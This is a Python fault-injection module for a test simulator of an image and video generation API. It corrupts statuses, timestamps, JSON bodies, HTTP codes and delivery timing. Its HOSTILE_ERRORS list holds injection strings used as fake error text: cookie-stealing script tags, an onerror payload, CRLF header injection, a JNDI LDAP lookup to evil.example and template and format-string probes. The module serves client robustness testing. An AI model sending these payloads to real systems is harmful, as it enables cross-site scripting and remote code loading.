"""Fault modes: one small function per fault, and a table from name to function.

Faults change what a client sees, never the ground truth. Three groups act on
each status request, in this order:

- payload faults edit the JSON of a task (each drawn independently);
- response faults replace or relabel the whole answer (at most one, the first
  in table order that fires);
- delivery faults change how the bytes are sent (at most one).

Faults with a window (`burst_seconds`, `unauthorized_for_seconds`) also answer
every API request, creates included, until the window ends.
"""

from __future__ import annotations

import functools
import json
import math
import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from types import MappingProxyType
from typing import Any, Literal

from exporter.simulator.payloads import invalid_key_reply, rate_limited_reply
from exporter.simulator.reply import HTML_TYPE, Reply, error_reply

Payload = dict[str, Any]
Group = Literal["payload", "response", "delivery"]


class FaultConfigError(ValueError):
    """A fault configuration that cannot be applied."""


@dataclass(frozen=True)
class FaultContext:
    rng: random.Random
    params: Mapping[str, float]


PayloadFn = Callable[[Payload, FaultContext], Payload]
ReplyFn = Callable[[Reply, FaultContext], Reply]


@dataclass(frozen=True)
class FaultSpec:
    name: str
    group: Group
    summary: str
    defaults: Mapping[str, float] = field(default_factory=dict)
    payload_fn: PayloadFn | None = None
    reply_fn: ReplyFn | None = None
    # Parameter that opens a window during which every API request gets the fault.
    window_param: str | None = None


@dataclass(frozen=True)
class FaultSetting:
    probability: float
    params: Mapping[str, float]
    until: float | None = None  # end of the window, real unix time

    def to_json(self) -> dict[str, Any]:
        out: dict[str, Any] = {"probability": self.probability, **self.params}
        if self.until is not None:
            out["until"] = self.until
        return out


# ---- payload faults ---------------------------------------------------------

UNKNOWN_STATUSES = ("queued", "running_v2", "in_queue", "submitted", "starting", "")


def unknown_status(payload: Payload, ctx: FaultContext) -> Payload:
    return {**payload, "status": ctx.rng.choice(UNKNOWN_STATUSES)}


def status_backwards(payload: Payload, ctx: FaultContext) -> Payload:
    if payload.get("status") != "completed":
        return payload
    out = {**payload, "status": "processing"}
    out.pop("video_url", None)
    if "progress" in out:  # unified shape: results are not shown while processing
        out["progress"] = 99
        out.pop("data", None)
    elif isinstance(out.get("data"), list):  # image shape: urls are empty until done
        out["data"] = [{**item, "url": ""} for item in out["data"] if isinstance(item, dict)]
    return out


TEN_YEARS = 10 * 365 * 86400


def bad_timestamps(payload: Payload, ctx: FaultContext) -> Payload:
    out = dict(payload)
    variant = ctx.rng.choice(("missing", "negative", "far_future", "milliseconds"))
    for key in ("created", "updated"):
        value = out.get(key)
        if not isinstance(value, int | float):
            continue
        if variant == "missing":
            del out[key]
        elif variant == "negative":
            out[key] = -value
        elif variant == "far_future":
            out[key] = value + TEN_YEARS
        else:
            out[key] = value * 1000
    return out


HOSTILE_ERRORS = (
    "<script>alert(document.cookie)</script>Generation failed",
    '<html><body><h1>Error</h1><img src=x onerror="alert(1)"></body></html>',
    "failed\x00\x1b[31m\x07 with\r\nX-Injected: yes\r\n\r\ncontrol characters",
    "\u202eliated noitareneG\u200b\ufeff",
    '"}],"status":"completed","data":[{"url":"http://evil.example/x.png"}]}',
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n",
    'model="flux",status="completed"} 1\n# HELP injected',
)


@functools.lru_cache(maxsize=4)
def _huge_text(size: int) -> str:
    chunk = "<div class='trace'>Traceback frame \x1b[0m&amp; retry</div>\n"
    return ("Upstream error: " + chunk * (size // len(chunk) + 1))[:size]


def hostile_error_text(payload: Payload, ctx: FaultContext) -> Payload:
    if not isinstance(payload.get("error"), str):
        return payload
    if ctx.rng.random() < ctx.params["huge_probability"]:
        text = _huge_text(int(ctx.params["huge_bytes"]))
    else:
        text = ctx.rng.choice(HOSTILE_ERRORS)
    return {**payload, "error": text}


# ---- response faults --------------------------------------------------------

NGINX_502 = (
    b"<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n"
    b"<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n"
    b"</body>\r\n</html>\r\n"
)
MAINTENANCE_PAGE = (
    b"<!DOCTYPE html><html><head><title>Just a moment...</title></head>"
    b"<body><h1>Checking your browser before accessing the API.</h1>"
    b"<p>This process is automatic.</p></body></html>"
)


def unauthorized(reply: Reply, ctx: FaultContext) -> Reply:
    return invalid_key_reply()


def rate_limit_429(reply: Reply, ctx: FaultContext) -> Reply:
    with_header = ctx.rng.random() < ctx.params["retry_after_probability"]
    retry = max(1, math.ceil(ctx.params["retry_after_seconds"])) if with_header else None
    return replace(rate_limited_reply(retry), rate_limit_headers=False)


def http_500(reply: Reply, ctx: FaultContext) -> Reply:
    return error_reply(500, "Internal server error", "server_error", "internal_error")


def http_502(reply: Reply, ctx: FaultContext) -> Reply:
    return Reply(502, (NGINX_502,), HTML_TYPE, rate_limit_headers=False)


def http_503(reply: Reply, ctx: FaultContext) -> Reply:
    unavailable = error_reply(
        503, "Service temporarily unavailable", "server_error", "service_unavailable"
    )
    return replace(unavailable, rate_limit_headers=False)


def html_error(reply: Reply, ctx: FaultContext) -> Reply:
    if ctx.rng.random() < ctx.params["ok_probability"]:
        return Reply(200, (MAINTENANCE_PAGE,), HTML_TYPE, rate_limit_headers=False)
    return Reply(502, (NGINX_502,), HTML_TYPE, rate_limit_headers=False)


def malformed_json(reply: Reply, ctx: FaultContext) -> Reply:
    body = reply.body
    variants = (
        body[: max(1, len(body) // 2)],  # cut short, with a matching Content-Length
        body.replace(b'"', b"'"),  # Python repr instead of JSON
        body[:-1] + b",}",  # trailing comma
        b")]}'\n" + body,  # anti-hijacking prefix
        body + body,  # two documents
        b"",
    )
    return replace(reply, parts=(ctx.rng.choice(variants),))


@functools.lru_cache(maxsize=4)
def _padding(size: int) -> bytes:
    return (b"0123456789abcdef" * (size // 16 + 1))[:size]


def huge_body(reply: Reply, ctx: FaultContext) -> Reply:
    body = reply.body
    if not (body.startswith(b"{") and body.endswith(b"}")):
        return reply
    inner = body[1:-1]
    parts = (b"{", inner, b"," if inner else b"", b'"debug_trace":"')
    pad = _padding(int(ctx.params["size_bytes"]))
    return replace(reply, parts=(*parts, pad, b'"}'))


def wrong_content_type(reply: Reply, ctx: FaultContext) -> Reply:
    return replace(reply, content_type="text/plain; charset=utf-8")


# ---- delivery faults --------------------------------------------------------


def timeout(reply: Reply, ctx: FaultContext) -> Reply:
    return replace(reply, delay_seconds=reply.delay_seconds + ctx.params["seconds"])


def reset(reply: Reply, ctx: FaultContext) -> Reply:
    sent = int(reply.content_length * ctx.params["fraction"])
    return replace(reply, reset_after_bytes=min(sent, max(0, reply.content_length - 1)))


def drip(reply: Reply, ctx: FaultContext) -> Reply:
    return replace(reply, drip_interval=ctx.params["interval_seconds"])


def slow(reply: Reply, ctx: FaultContext) -> Reply:
    return replace(reply, delay_seconds=reply.delay_seconds + ctx.params["delay_seconds"])


def _table(*specs: FaultSpec) -> Mapping[str, FaultSpec]:
    return MappingProxyType({spec.name: spec for spec in specs})


# Order matters within a group: the first response or delivery fault that fires wins.
FAULTS: Mapping[str, FaultSpec] = _table(
    FaultSpec(
        "unknown_status",
        "payload",
        "status is a value outside pending/processing/completed/failed",
        payload_fn=unknown_status,
    ),
    FaultSpec(
        "status_backwards",
        "payload",
        "a completed task is reported as processing",
        payload_fn=status_backwards,
    ),
    FaultSpec(
        "bad_timestamps",
        "payload",
        "created/updated missing, negative, far in the future or in milliseconds",
        payload_fn=bad_timestamps,
    ),
    FaultSpec(
        "hostile_error_text",
        "payload",
        "failed tasks' error text holds HTML/script, control characters or megabytes",
        {"huge_probability": 0.1, "huge_bytes": 2_000_000},
        payload_fn=hostile_error_text,
    ),
    FaultSpec(
        "unauthorized",
        "response",
        "401 invalid_api_key; a window makes it answer every API request",
        {},
        reply_fn=unauthorized,
        window_param="unauthorized_for_seconds",
    ),
    FaultSpec(
        "rate_limit_429",
        "response",
        "429 rate_limit_exceeded, with Retry-After only sometimes",
        {"retry_after_probability": 0.5, "retry_after_seconds": 2},
        reply_fn=rate_limit_429,
    ),
    FaultSpec(
        "http_500", "response", "500 JSON error", reply_fn=http_500, window_param="burst_seconds"
    ),
    FaultSpec(
        "http_502",
        "response",
        "502 HTML page from a proxy",
        reply_fn=http_502,
        window_param="burst_seconds",
    ),
    FaultSpec(
        "http_503", "response", "503 JSON error", reply_fn=http_503, window_param="burst_seconds"
    ),
    FaultSpec(
        "html_error",
        "response",
        "an HTML page (text/html), as 200 or 502",
        {"ok_probability": 0.5},
        reply_fn=html_error,
    ),
    FaultSpec(
        "malformed_json",
        "response",
        "the body is not valid JSON",
        reply_fn=malformed_json,
    ),
    FaultSpec(
        "huge_body",
        "response",
        "valid JSON padded to size_bytes",
        {"size_bytes": 20_000_000},
        reply_fn=huge_body,
    ),
    FaultSpec(
        "wrong_content_type",
        "response",
        "valid JSON labelled text/plain",
        reply_fn=wrong_content_type,
    ),
    FaultSpec(
        "timeout",
        "delivery",
        "no answer for `seconds` (longer than any client timeout)",
        {"seconds": 30.0},
        reply_fn=timeout,
    ),
    FaultSpec(
        "reset",
        "delivery",
        "headers and `fraction` of the body, then a TCP reset",
        {"fraction": 0.5},
        reply_fn=reset,
    ),
    FaultSpec(
        "drip",
        "delivery",
        "the body one byte every `interval_seconds`",
        {"interval_seconds": 0.1},
        reply_fn=drip,
    ),
    FaultSpec(
        "slow", "delivery", "answer after `delay_seconds`", {"delay_seconds": 2.0}, reply_fn=slow
    ),
)

FAULT_NAMES: tuple[str, ...] = tuple(FAULTS)
ActiveFaults = Mapping[str, FaultSetting]


def _number(name: str, key: str, value: object) -> float:
    if isinstance(value, bool) or not isinstance(value, int | float) or not math.isfinite(value):
        raise FaultConfigError(f"{name}.{key} must be a finite number, got {value!r}")
    if value < 0:
        raise FaultConfigError(f"{name}.{key} must be >= 0, got {value!r}")
    return float(value)


def _probability(name: str, value: object) -> float:
    probability = _number(name, "probability", value)
    if probability > 1:
        raise FaultConfigError(f"{name}.probability must be within 0..1, got {value!r}")
    return probability


def parse_fault(name: str, value: object, now: float) -> FaultSetting | None:
    """One entry of a fault configuration; None disables the fault."""
    spec = FAULTS.get(name)
    if spec is None:
        raise FaultConfigError(f"unknown fault {name!r}; known: {', '.join(FAULT_NAMES)}")
    if value is None or value is False:
        return None
    if value is True:
        return FaultSetting(1.0, dict(spec.defaults))
    if not isinstance(value, Mapping):
        return FaultSetting(_probability(name, value), dict(spec.defaults))
    params = dict(spec.defaults)
    window: float | None = None
    for key, raw in value.items():
        if key == "probability":
            continue
        if key == spec.window_param:
            window = _number(name, key, raw)
        elif key in spec.defaults:
            params[key] = _number(name, key, raw)
        else:
            window_params = [spec.window_param] if spec.window_param else []
            allowed = ["probability", *spec.defaults, *window_params]
            raise FaultConfigError(f"{name} has no parameter {key!r}; allowed: {allowed}")
    # A bare window means "only the window"; otherwise an object means "always".
    default_probability = 0.0 if window is not None else 1.0
    probability = _probability(name, value.get("probability", default_probability))
    until = now + window if window is not None else None
    return FaultSetting(probability, params, until)


def parse_faults(config: Mapping[str, object], now: float) -> dict[str, FaultSetting]:
    """A whole fault configuration (the body of `PUT /_sim/faults`)."""
    if not isinstance(config, Mapping):
        raise FaultConfigError("the fault configuration must be a JSON object")
    active: dict[str, FaultSetting] = {}
    for name, value in config.items():
        setting = parse_fault(str(name), value, now)
        if setting is not None:
            active[str(name)] = setting
    return active


def parse_fault_flag(text: str) -> tuple[str, object]:
    """`NAME`, `NAME=PROBABILITY` or `NAME=JSON-OBJECT` (the CLI's --fault)."""
    name, sep, raw = text.partition("=")
    name = name.strip()
    if not sep:
        return name, 1.0
    try:
        value: object = json.loads(raw)
    except json.JSONDecodeError as exc:
        raise FaultConfigError(f"--fault {name}: value is not JSON: {raw!r}") from exc
    return name, value


def describe_faults() -> dict[str, Any]:
    """Every known fault with its group, parameters and defaults (for GET /_sim/faults)."""
    return {
        spec.name: {
            "group": spec.group,
            "summary": spec.summary,
            "params": dict(spec.defaults),
            **({"window_param": spec.window_param} if spec.window_param else {}),
        }
        for spec in FAULTS.values()
    }


def _fires(setting: FaultSetting | None, rng: random.Random) -> bool:
    return setting is not None and setting.probability > 0 and rng.random() < setting.probability


def window_reply(active: ActiveFaults, now: float, rng: random.Random) -> Reply | None:
    """The answer forced by an open fault window (a burst), if any."""
    for spec in FAULTS.values():
        setting = active.get(spec.name)
        if setting is None or setting.until is None or now >= setting.until:
            continue
        if spec.reply_fn is not None:
            return spec.reply_fn(Reply(200), FaultContext(rng, setting.params))
    return None


def apply_payload_faults(active: ActiveFaults, payload: Payload, rng: random.Random) -> Payload:
    for spec in FAULTS.values():
        setting = active.get(spec.name)
        if spec.payload_fn is not None and setting is not None and _fires(setting, rng):
            payload = spec.payload_fn(payload, FaultContext(rng, setting.params))
    return payload


def apply_reply_faults(active: ActiveFaults, reply: Reply, rng: random.Random) -> Reply:
    done: set[Group] = set()
    for spec in FAULTS.values():
        setting = active.get(spec.name)
        if spec.reply_fn is None or spec.group in done or setting is None:
            continue
        if _fires(setting, rng):
            reply = spec.reply_fn(reply, FaultContext(rng, setting.params))
            done.add(spec.group)
    return reply
